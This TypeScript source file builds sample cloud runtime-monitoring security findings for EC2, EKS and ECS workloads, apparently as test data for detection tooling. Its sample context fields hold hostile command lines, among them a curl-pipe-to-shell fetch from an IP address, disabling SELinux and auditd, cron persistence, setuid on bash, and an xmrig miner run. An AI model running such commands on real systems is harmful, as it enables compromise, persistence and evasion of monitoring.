/**
 * Sample findings of Runtime Monitoring: the workload the agent watches (an EC2 instance, a pod of an EKS
 * cluster or a task of an ECS cluster), `service.runtimeDetails` with the process (and its lineage) and
 * the context the technique implies (kernel module, injected process, modified binary or library, release
 * agent, mount, socket, tool, command line), and for network and DNS techniques the same connection or
 * query action the flow-log and DNS-log samples show.
 */
import { DNS_SPECS, dnsService, FLOW_SPECS, flowService } from './network-samples.js'
import { typeName, type SampleInput, type SampleParts, type Wire } from './sample-parts.js'
import {
  container,
  ecsClusterDetails,
  eksClusterDetails,
  instanceDetails,
  kubernetesDetails,
} from './sample-resources.js'
import { epochSeconds, sampleDate, type SampleValues } from './sample-values.js'

/** A process: `[name, executable path]`. */
type Exe = readonly [string, string]

interface RuntimeSpec {
  readonly process: Exe
  readonly parent?: Exe
  /** Who the process runs as (default: an application user). */
  readonly identity?: Identity
  readonly context?: (values: SampleValues, processOf: (exe: Exe) => Wire) => Wire
  /** A known-malicious file was run: `service.malwareScanDetails` names it. */
  readonly malware?: boolean
}

const SHELL: Exe = ['bash', '/usr/bin/bash']
const CURL: Exe = ['curl', '/usr/bin/curl']
const PYTHON: Exe = ['python3', '/usr/bin/python3']
const MINER: Exe = ['xmrig', '/tmp/.cache/xmrig']
const EXPLOIT: Exe = ['exploit', '/tmp/exploit']
const TOR: Exe = ['tor', '/usr/bin/tor']

const command = (commandLineExample: string) => () => ({ commandLineExample })

const RUNTIME_SPECS: Readonly<Record<string, RuntimeSpec>> = {
  'C&CActivity.B': { process: PYTHON },
  'C&CActivity.B!DNS': { process: CURL },
  'BitcoinTool.B': { process: MINER },
  'BitcoinTool.B!DNS': { process: MINER },
  FilelessExecution: { process: ['memfd:agent', '/memfd:agent (deleted)'], parent: PYTHON },
  KernelModuleLoaded: {
    process: ['insmod', '/usr/sbin/insmod'],
    identity: 'root',
    context: (v) => ({
      moduleName: 'sample_rootkit',
      moduleFilePath: '/tmp/sample_rootkit.ko',
      moduleSha256: v.sha256(),
    }),
  },
  'ProcessInjection.Proc': {
    process: ['injector', '/tmp/injector'],
    context: (_v, p) => ({ targetProcess: p(['sshd', '/usr/sbin/sshd']) }),
  },
  'ProcessInjection.Ptrace': {
    process: ['injector', '/tmp/injector'],
    context: (_v, p) => ({ targetProcess: p(['nginx', '/usr/sbin/nginx']) }),
  },
  'ProcessInjection.VirtualMemoryWrite': {
    process: ['injector', '/tmp/injector'],
    context: (v, p) => ({
      targetProcess: p(['sshd', '/usr/sbin/sshd']),
      memoryRegions: [`7f${v.hex(10)}-7f${v.hex(10)}`],
    }),
  },
  PtraceAntiDebugging: { process: ['updater', '/tmp/.updater/updater'] },
  'DefenseEvasion:SuspiciousCommand': {
    process: SHELL,
    identity: 'root',
    context: command('setenforce 0 && systemctl stop auditd'),
  },
  'Discovery:SuspiciousCommand': {
    process: SHELL,
    context: command('id; uname -a; cat /etc/passwd; ip addr'),
  },
  MaliciousFileExecuted: {
    process: ['kworkerds', '/tmp/kworkerds'],
    malware: true,
    context: () => ({ threatFilePath: '/tmp/kworkerds' }),
  },
  NewBinaryExecuted: {
    process: ['update-agent', '/usr/local/bin/update-agent'],
    context: (v, p) => ({
      modifyingProcess: p(CURL),
      modifiedAt: epochSeconds(sampleDate(v, 30)),
    }),
  },
  NewLibraryLoaded: {
    process: PYTHON,
    context: (v, p) => ({
      libraryPath: '/tmp/libhook.so',
      modifyingProcess: p(['wget', '/usr/bin/wget']),
      modifiedAt: epochSeconds(sampleDate(v, 30)),
    }),
  },
  ReverseShell: { process: SHELL, parent: PYTHON },
  'Execution:SuspiciousCommand': {
    process: SHELL,
    context: command('curl -fsSL http://198.51.100.23/setup.sh | sh'),
  },
  SuspiciousShellCreated: { process: ['sh', '/bin/sh'], parent: ['nginx', '/usr/sbin/nginx'] },
  SuspiciousTool: {
    process: ['nmap', '/usr/bin/nmap'],
    context: () => ({ toolName: 'nmap', toolCategory: 'Network scanner' }),
  },
  'AbusedDomainRequest.Reputation': { process: CURL },
  'BitcoinDomainRequest.Reputation': { process: MINER },
  CryptoMinerExecuted: {
    process: MINER,
    context: command('xmrig --url pool.example.net:3333 --donate-level 1'),
  },
  'MaliciousDomainRequest.Reputation': { process: CURL },
  'SuspiciousDomainRequest.Reputation': { process: CURL },
  'Persistence:SuspiciousCommand': {
    process: SHELL,
    context: command("(crontab -l; echo '*/10 * * * * /tmp/.x/run') | crontab -"),
  },
  CGroupsReleaseAgentModified: {
    process: ['sh', '/bin/sh'],
    identity: 'root',
    context: () => ({ releaseAgentPath: '/sys/fs/cgroup/rdma/release_agent' }),
  },
  ContainerMountsHostDirectory: {
    process: ['mount', '/usr/bin/mount'],
    identity: 'root',
    context: () => ({
      mountSource: '/dev/nvme0n1p1',
      mountTarget: '/mnt/host',
      fileSystemType: 'xfs',
      flags: ['MS_NOSUID', 'MS_NODEV'],
    }),
  },
  DockerSocketAccessed: {
    process: ['docker', '/usr/bin/docker'],
    context: () => ({ socketPath: '/var/run/docker.sock' }),
  },
  ElevationToRoot: { process: SHELL, parent: EXPLOIT, identity: 'elevated' },
  RuncContainerEscape: {
    process: EXPLOIT,
    identity: 'root',
    context: () => ({ runcBinaryPath: '/usr/bin/runc' }),
  },
  'PrivilegeEscalation:SuspiciousCommand': {
    process: SHELL,
    context: command('chmod u+s /bin/bash'),
  },
  UserfaultfdUsage: { process: EXPLOIT },
  BlackholeTraffic: { process: PYTHON },
  'BlackholeTraffic!DNS': { process: CURL },
  'DGADomainRequest.C!DNS': { process: CURL },
  'DriveBySourceTraffic!DNS': { process: CURL },
  DropPoint: { process: PYTHON },
  'DropPoint!DNS': { process: CURL },
  'PhishingDomainRequest!DNS': { process: CURL },
  MetadataDNSRebind: { process: CURL },
  TorClient: { process: TOR },
  TorRelay: { process: TOR },
}

function runtimeSpec(type: string): RuntimeSpec {
  const { purpose, technique } = typeName(type)
  const spec = RUNTIME_SPECS[technique] ?? RUNTIME_SPECS[`${purpose}:${technique}`]
  if (!spec) throw new Error(`no sample runtime spec for ${type}`)
  return spec
}

/** Who a process runs as: an application user, root, or an application user with root's euid. */
type Identity = 'user' | 'root' | 'elevated'

/** Builds `ProcessDetails` from one value stream; all of a sample's processes start together. */
function processFactory(values: SampleValues) {
  const started = epochSeconds(sampleDate(values, 40))
  return (exe: Exe, identity: Identity, parentUuid?: string) => {
    const root = identity === 'root'
    return {
      name: exe[0],
      executablePath: exe[1],
      executableSha256: values.sha256(),
      namespacePid: values.int(1, 300),
      pwd: root ? '/root' : '/home/app',
      pid: values.int(300, 65_000),
      startTime: started,
      uuid: values.uuid(),
      ...(parentUuid ? { parentUuid } : {}),
      user: root ? 'root' : 'app',
      userId: root ? 0 : 1000,
      euid: identity === 'user' ? 1000 : 0,
    }
  }
}

/** `service.runtimeDetails` (and `malwareScanDetails` for malicious executables). */
function runtimeService(values: SampleValues, spec: RuntimeSpec): Wire {
  const make = processFactory(values)
  const identity: Identity = spec.identity ?? 'user'
  const parent = make(
    spec.parent ?? ['containerd-shim', '/usr/bin/containerd-shim-runc-v2'],
    identity === 'root' ? 'root' : 'user',
  )
  const main = make(spec.process, identity, parent.uuid)
  const lineage = [
    {
      startTime: parent.startTime,
      namespacePid: parent.namespacePid,
      userId: parent.userId,
      name: parent.name,
      pid: parent.pid,
      uuid: parent.uuid,
      executablePath: parent.executablePath,
      euid: parent.euid,
    },
  ]
  const context = spec.context?.(values, (exe) => make(exe, identity === 'root' ? 'root' : 'user'))
  return {
    runtimeDetails: {
      process: { ...main, lineage },
      ...(context ? { context } : {}),
    },
    ...(spec.malware
      ? {
          malwareScanDetails: {
            threats: [
              {
                name: 'EICAR-Test-File (not a virus)',
                source: 'Amazon',
                itemPaths: [{ nestedItemPath: spec.process[1], hash: main.executableSha256 }],
              },
            ],
          },
        }
      : {}),
  }
}

/** A Runtime Monitoring finding. */
export function runtimeSample({ entry, scope, values }: SampleInput): SampleParts {
  const { technique } = typeName(entry.type)
  const spec = runtimeSpec(entry.type)
  let resource: Wire
  let subject: string
  let localIp = values.privateIpV4()
  switch (entry.resourceType) {
    case 'Instance': {
      const instance = instanceDetails(scope, values)
      resource = { resourceType: 'Instance', instanceDetails: instance.details }
      subject = `EC2 instance ${instance.name}`
      localIp = instance.extra.privateIp
      break
    }
    case 'EKSCluster': {
      const cluster = eksClusterDetails(scope, values)
      const pod = `${values.pick(['api', 'worker', 'frontend'])}-${values.alnum(10)}-${values.alnum(5)}`
      resource = {
        resourceType: 'EKSCluster',
        eksClusterDetails: cluster.details,
        kubernetesDetails: kubernetesDetails(values, undefined, {
          name: pod,
          type: 'pods',
          namespace: 'default',
          containers: [container(values)],
        }),
      }
      subject = `EKS cluster ${cluster.name} (pod ${pod})`
      break
    }
    default: {
      const cluster = ecsClusterDetails(scope, values, [container(values)])
      resource = { resourceType: 'ECSCluster', ecsClusterDetails: cluster.details }
      subject = `ECS cluster ${cluster.name}`
    }
  }
  const flow = FLOW_SPECS[technique]
  const dns = DNS_SPECS[technique]
  const network = flow
    ? flowService(values, flow, localIp)
    : dns
      ? dnsService(values, dns, scope.accountId)
      : {}
  return {
    resource,
    service: { ...network, ...runtimeService(values, spec) },
    resourceRole: 'ACTOR',
    subject,
  }
}
